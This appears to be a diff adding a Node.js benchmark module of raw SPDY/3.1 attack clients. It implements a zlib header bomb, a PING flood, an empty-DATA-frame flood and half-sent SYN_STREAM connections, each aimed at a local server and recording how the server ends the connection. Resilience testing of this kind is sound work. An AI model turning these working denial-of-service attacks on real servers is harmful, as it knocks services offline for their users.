@@ -1,0 +1,226 @@
+// Raw SPDY/3.1 attack clients for bench/attacks (plain JS, no test code):
+// frame builders, header blocks compressed with Node's zlib and the SPDY/3
+// dictionary (the copy in the `spdy-transport` devDependency, the same
+// bytes as ../shared/spec/spdy3-dictionary.hex), and a frame reader that
+// records how the server ended each connection.
+'use strict';
+const net = require('node:net');
+const zlib = require('node:zlib');
+const { sleep, until, tally, fmtN, flood } = require('./h2.js');
+
+const DICT = require('spdy-transport/lib/spdy-transport/protocol/spdy/dictionary.js')[3];
+const T = { SYN_STREAM: 1, SYN_REPLY: 2, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, HEADERS: 8, WINDOW_UPDATE: 9 };
+const RST = ['0', 'PROTOCOL_ERROR', 'INVALID_STREAM', 'REFUSED_STREAM', 'UNSUPPORTED_VERSION', 'CANCEL',
+  'INTERNAL_ERROR', 'FLOW_CONTROL_ERROR', 'STREAM_IN_USE', 'STREAM_ALREADY_CLOSED', 'INVALID_CREDENTIALS', 'FRAME_TOO_LARGE'];
+const GOAWAY = ['OK', 'PROTOCOL_ERROR', 'INTERNAL_ERROR'];
+const name = (list, c) => list[c] ?? `status ${c}`;
+
+function ctrl(type, flags, payload) {
+  const b = Buffer.allocUnsafe(8 + payload.length);
+  b[0] = 0x80;
+  b[1] = 3;
+  b.writeUInt16BE(type, 2);
+  b[4] = flags;
+  b.writeUIntBE(payload.length, 5, 3);
+  payload.copy(b, 8);
+  return b;
+}
+function data(streamId, flags, payload = Buffer.alloc(0)) {
+  const b = Buffer.allocUnsafe(8 + payload.length);
+  b.writeUInt32BE(streamId & 0x7fffffff, 0);
+  b[4] = flags;
+  b.writeUIntBE(payload.length, 5, 3);
+  payload.copy(b, 8);
+  return b;
+}
+const u32s = (...v) => { const b = Buffer.alloc(4 * v.length); v.forEach((x, i) => b.writeUInt32BE(x >>> 0, 4 * i)); return b; };
+const windowUpdate = (sid, delta) => ctrl(T.WINDOW_UPDATE, 0, u32s(sid, delta));
+const ping = (id) => ctrl(T.PING, 0, u32s(id));
+/** SPDY/3.1 signature: a connection-level WINDOW_UPDATE before the first SYN_STREAM. */
+const HELLO = windowUpdate(0, 1 << 20);
+
+/** SPDY/3 name/value block (uncompressed). */
+function nvBlock(pairs) {
+  const parts = [u32s(pairs.length)];
+  for (const [k, v] of pairs) {
+    const kb = Buffer.from(k);
+    const vb = Buffer.isBuffer(v) ? v : Buffer.from(v);
+    parts.push(u32s(kb.length), kb, u32s(vb.length), vb);
+  }
+  return Buffer.concat(parts);
+}
+/** The first header block of a connection: zlib with the SPDY/3 dictionary, sync-flushed. */
+const compress = (block) => zlib.deflateSync(block, { dictionary: DICT, level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
+function synStream(streamId, fin, pairs) {
+  const head = Buffer.alloc(10);
+  head.writeUInt32BE(streamId, 0);
+  head.writeUInt32BE(0, 4);
+  head[8] = 3 << 5;
+  return ctrl(T.SYN_STREAM, fin ? 1 : 0, Buffer.concat([head, compress(nvBlock(pairs))]));
+}
+const request = (method, path, extra = []) => [[':method', method], [':path', path], [':version', 'HTTP/1.1'],
+  [':host', '127.0.0.1'], [':scheme', 'http'], ...extra];
+
+class SpdyConn {
+  constructor(port, { read = true } = {}) {
+    this.goaway = null;
+    this.rst = new Map();
+    this.replies = 0;
+    this.closed = false;
+    this.error = null;
+    this.reading = read;
+    this._buf = Buffer.alloc(0);
+    this._skip = 0;
+    this.sock = net.connect(port, '127.0.0.1');
+    this.sock.setNoDelay(true);
+    this.connected = new Promise((resolve) => {
+      this.sock.once('connect', resolve);
+      this.sock.once('close', resolve);
+    });
+    this.sock.on('error', (e) => { this.error ??= e.code || String(e); });
+    this.sock.on('close', () => { this.closed = true; });
+    this.sock.on('data', (d) => this._parse(d));
+    if (!read) this.sock.pause();
+  }
+  _parse(d) {
+    let off = 0;
+    if (this._skip) {
+      off = Math.min(this._skip, d.length);
+      this._skip -= off;
+      if (off === d.length) return;
+    }
+    const buf = this._buf.length ? Buffer.concat([this._buf, d.subarray(off)]) : d.subarray(off);
+    let p = 0;
+    while (buf.length - p >= 8) {
+      const len = buf.readUIntBE(p + 5, 3);
+      if (!(buf[p] & 0x80)) {
+        const n = Math.min(len, buf.length - p - 8);
+        p += 8 + n;
+        this._skip = len - n;
+        continue;
+      }
+      if (buf.length - p < 8 + len) break;
+      const type = buf.readUInt16BE(p + 2);
+      const pl = buf.subarray(p + 8, p + 8 + len);
+      p += 8 + len;
+      if (type === T.GOAWAY && len >= 8) this.goaway ??= pl.readUInt32BE(4);
+      else if (type === T.RST_STREAM && len >= 8) {
+        const c = pl.readUInt32BE(4);
+        this.rst.set(c, (this.rst.get(c) || 0) + 1);
+      } else if (type === T.SYN_REPLY) this.replies++;
+    }
+    this._buf = Buffer.from(buf.subarray(p));
+  }
+  write(b) {
+    if (this.sock.destroyed || this.closed) return Promise.resolve(false);
+    if (this.sock.write(b)) return Promise.resolve(true);
+    return new Promise((resolve) => {
+      const done = (v) => { this.sock.off('drain', onDrain); this.sock.off('close', onClose); resolve(v); };
+      const onDrain = () => done(true);
+      const onClose = () => done(false);
+      this.sock.on('drain', onDrain);
+      this.sock.on('close', onClose);
+    });
+  }
+  writeBy(b, deadline) {
+    let t;
+    return Promise.race([this.write(b), new Promise((r) => { t = setTimeout(() => r(false), Math.max(0, deadline - Date.now())); })])
+      .finally(() => clearTimeout(t));
+  }
+  async drainScan(ms) {
+    this.reading = true;
+    this.sock.resume();
+    const t0 = Date.now();
+    while (Date.now() - t0 < ms && !this.closed && this.goaway === null) await sleep(20);
+  }
+  outcome() {
+    const parts = [];
+    if (this.goaway !== null) parts.push(`GOAWAY ${name(GOAWAY, this.goaway)}`);
+    else if (this.rst.size) parts.push([...this.rst.keys()].map((c) => `RST_STREAM ${name(RST, c)}`).join('+'));
+    if (this.goaway === null) {
+      if (this.closed) parts.push(this.error ? `socket closed (${this.error})` : 'socket closed');
+      else parts.push(this.rst.size ? 'conn open' : 'still open');
+    }
+    return parts.join(', ');
+  }
+  destroy() { this.sock.destroy(); }
+}
+
+let bombWire = null;
+/** 16 MiB header value, compressed (about 16 KiB on the wire). */
+function zlibBomb() {
+  bombWire ??= Buffer.concat([HELLO, synStream(1, true, request('GET', '/', [['x-bomb', Buffer.alloc(16 << 20, 0x61)]]))]);
+  return bombWire;
+}
+
+async function zlibBombAttack(port, ctx) {
+  const total = ctx.q ? 8 : 16;
+  const par = 4;
+  const wire = zlibBomb();
+  let started = 0;
+  const outcomes = [];
+  const worker = async () => {
+    while (started < total && Date.now() < ctx.deadline - 1000) {
+      started++;
+      const c = new SpdyConn(port);
+      await c.connected;
+      c.sock.write(wire);
+      await until(() => c.closed || c.goaway !== null || c.rst.size > 0 || c.replies > 0, Math.min(ctx.deadline - 1000, Date.now() + 5000));
+      await sleep(200); // a GOAWAY may follow the RST_STREAM
+      outcomes.push(c.replies && !c.rst.size && c.goaway === null ? 'answered 200' : c.outcome());
+      c.destroy();
+    }
+  };
+  await Promise.all(Array.from({ length: par }, worker));
+  return { ended: tally(outcomes), note: `${(wire.length / 1024).toFixed(0)} KiB/conn` };
+}
+
+async function pingFlood(port, ctx) {
+  const c = new SpdyConn(port, { read: false });
+  await c.connected;
+  c.sock.write(HELLO);
+  const per = Math.floor(65536 / 12);
+  const parts = [];
+  for (let i = 0; i < per; i++) parts.push(ping(2 * i + 1));
+  const sent = await flood(c, Buffer.concat(parts), per, ctx.q ? 3e6 : 20e6, ctx);
+  await c.drainScan(2000);
+  const r = { ended: `${c.outcome()} after ${fmtN(sent)} PINGs (reader paused)` };
+  c.destroy();
+  return r;
+}
+
+async function emptyData(port, ctx) {
+  const c = new SpdyConn(port);
+  await c.connected;
+  c.sock.write(Buffer.concat([HELLO, synStream(1, false, request('POST', '/'))]));
+  const per = 8192;
+  const batch = Buffer.concat(Array(per).fill(data(1, 0)));
+  const sent = await flood(c, batch, per, ctx.q ? 2e6 : 20e6, ctx);
+  await until(() => c.closed || c.goaway !== null, Date.now() + 1500);
+  const r = { ended: `${c.outcome()} after ${fmtN(sent)} frames sent` };
+  c.destroy();
+  return r;
+}
+
+async function halfSynStream(port, ctx) {
+  const n = ctx.q ? 100 : 500;
+  const full = synStream(1, true, request('GET', '/', [['x-pad', 'x'.repeat(200)]]));
+  const half = Buffer.concat([HELLO, full.subarray(0, Math.floor(full.length / 2))]);
+  const cs = [];
+  for (let i = 0; i < n; i++) cs.push(new SpdyConn(port));
+  await Promise.all(cs.map((c) => c.connected));
+  const t0 = Date.now();
+  cs.forEach((c) => {
+    c.sock.write(half);
+    c.sock.once('close', () => { c.closedAfter = Date.now() - t0; });
+  });
+  await until(() => cs.every((c) => c.closed), ctx.deadline - 1500, 100);
+  const closed = cs.filter((c) => c.closed);
+  const secs = closed.length ? ` after ${(Math.max(...closed.map((c) => c.closedAfter)) / 1000).toFixed(0)} s` : '';
+  const stall = ((Date.now() - t0) / 1000).toFixed(0);
+  const r = { ended: closed.length ? `${tally(cs.map((c) => c.outcome()))}${secs}` : `0/${n} closed in ${stall} s` };
+  cs.forEach((c) => c.destroy());
+  return r;
+}
+
+module.exports = { zlibBomb: zlibBombAttack, pingFlood, emptyData, halfSynStream, _wire: zlibBomb };
